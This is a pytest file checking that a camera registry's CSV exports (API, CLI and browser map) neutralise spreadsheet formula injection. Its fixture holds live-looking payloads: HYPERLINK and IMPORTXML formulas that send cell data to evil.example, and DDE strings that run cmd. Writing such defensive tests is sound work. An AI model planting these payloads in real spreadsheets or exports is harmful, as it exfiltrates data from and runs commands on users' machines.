"""Spreadsheets are not attack surfaces (issue 15, class 8), on both databases.

An editor types formulas into every text field of a camera; an officer (or the public) then opens
a CSV export in a spreadsheet. Every CSV writer of the product - `GET /cameras?f=csv`,
`GET /exports?f=csv` (public and police), `observo export --format csv` and the map's browser-side
CSV - writes those cells with a leading `'`, and numbers (a tilt of -15°, a longitude of -3.5) as
numbers.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from observo.cli import main
from observo.domain.csv_cells import CONTROL_STARTS, FORMULA_STARTS, csv_cell
from observo.models import Camera
from observo.settings import PROJECT_ROOT
from tests import factories

REASON = "PG-2026-0815 verifica"
OWNER = "csv-town"
# A formula in every free-text property a CSV carries (within each one's length limit).
TEXT = {
    "name": '=HYPERLINK("https://evil.example/?x="&A1,"Apri")',
    "ref": "+cmd|' /C calc'!A0",
    "site_ref": "-2+3+cmd|' /C calc'!A0",
    "address": "@SUM(1+9)*cmd|' /C calc'!A0",
    "level": "\t=1+1",
    "make": "\r=1+1",
    "model": "  =1+1",
    "data_controller": '\uff1dHYPERLINK("https://evil.example")',
    "legal_basis": '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    "resolution": "\n=1+1",
}
# Numbers the product writes: negative ones must stay numbers.
NUMBERS = {"tilt_deg": -15.0, "height_m": 6.0, "bearing_deg": 90.0}


def is_formula(cell: str) -> bool:
    return cell.startswith(CONTROL_STARTS) or cell.lstrip().startswith(FORMULA_STARTS)


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def planted(client, session) -> dict:
    """The camera, created through the API as an editor would; its text as stored."""
    town = factories.org(session, OWNER)
    editor = factories.headers_for(session, town, "editor")
    feature = factories.feature(OWNER, visibility="public", **TEXT, **NUMBERS)
    created = client.post("/api/v1/cameras", json=feature, headers=editor)
    assert created.status_code == 201, created.get_data(as_text=True)
    camera = session.get(Camera, created.json["id"])
    stored = {name: getattr(camera, name) for name in TEXT}
    assert all(is_formula(text) for text in stored.values()), stored  # stored as typed: formulas
    return {
        "id": camera.id,
        "stored": stored,
        "viewer": factories.headers_for(session, town, "viewer"),
    }


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_neutralised(rows: list[dict[str, str]], planted: dict, columns: set[str]) -> None:
    """No cell is a formula; each planted text is there behind a `'`; numbers are numbers."""
    [row] = [row for row in rows if row["id"] == str(planted["id"])]
    assert columns <= set(row), set(row)
    for name in columns & set(TEXT):
        assert row[name] == "'" + planted["stored"][name], name
    for name in columns & set(NUMBERS):
        assert float(row[name]) == NUMBERS[name], name
    for other in rows:
        for name, cell in other.items():
            assert is_number(cell) or not is_formula(cell or ""), (name, cell)


PUBLIC_COLUMNS = {"name"}
POLICE_COLUMNS = set(TEXT) | set(NUMBERS)


@pytest.mark.parametrize("path", ["/api/v1/cameras?f=csv", "/api/v1/exports?f=csv"])
def test_public_csv_neutralises_formulas(client, planted, path):
    response = client.get(f"{path}&owner={OWNER}")
    assert response.status_code == 200 and response.mimetype == "text/csv", response.get_data(as_text=True)
    assert_neutralised(rows_of(response.get_data(as_text=True)), planted, PUBLIC_COLUMNS)


@pytest.mark.parametrize("path", ["/api/v1/cameras?f=csv", "/api/v1/exports?f=csv"])
def test_police_csv_neutralises_formulas_and_keeps_numbers(client, planted, path):
    response = client.get(f"{path}&owner={OWNER}&reason={REASON}", headers=planted["viewer"])
    assert response.status_code == 200 and response.mimetype == "text/csv", response.get_data(as_text=True)
    rows = rows_of(response.get_data(as_text=True))
    assert_neutralised(rows, planted, POLICE_COLUMNS)
    [row] = rows
    assert row["tilt_deg"] == "-15.0"  # a number, not text


def test_the_export_command_neutralises_formulas(app, planted, tmp_path):
    output = tmp_path / "cameras.csv"
    result = app.test_cli_runner().invoke(
        main, ["export", "--format", "csv", "--owner", OWNER, "--reason", REASON, "--output", str(output)]
    )
    assert result.exit_code == 0, result.stderr
    assert_neutralised(rows_of(output.read_bytes().decode("utf-8")), planted, POLICE_COLUMNS)


def test_the_rule_neutralises_text_only():
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell(" \u00a0@x") == "' \u00a0@x"
    assert csv_cell("\tx") == "'\tx"
    assert csv_cell("Via Roma 1") == "Via Roma 1"
    assert csv_cell(" Via Roma") == " Via Roma"
    assert csv_cell(-3.5) == -3.5 and csv_cell(-1) == -1 and csv_cell(None) is None


def test_the_maps_browser_csv_follows_the_same_rule(client, planted, browser):
    """static/js/map/export.js, run in Chromium on the Features the police API answers."""
    response = client.get(f"/api/v1/cameras?owner={OWNER}", headers=planted["viewer"])
    features = response.json["features"]
    # A camera west of Greenwich: its coordinates and a negative distance are numbers.
    features.append(
        {"id": 999, "geometry": {"coordinates": [-3.5, -0.25]}, "properties": {"name": "-", "distance_m": -1}}
    )
    source = (PROJECT_ROOT / "static/js/map/export.js").read_text(encoding="utf-8")
    module = source.replace("export function", "function")
    page = browser.new_page()
    try:
        text = page.evaluate(f"(features) => {{ {module}\n return toCsv(features); }}", features)
    finally:
        page.close()
    rows = rows_of(text)
    browser_columns = {"name", "address"}
    assert_neutralised(rows, planted, browser_columns)
    west = rows[-1]
    assert (west["lon"], west["lat"], west["distance_m"], west["name"]) == ("-3.5", "-0.25", "-1", "'-")
    assert json.dumps(text).count("'=HYPERLINK") == 1
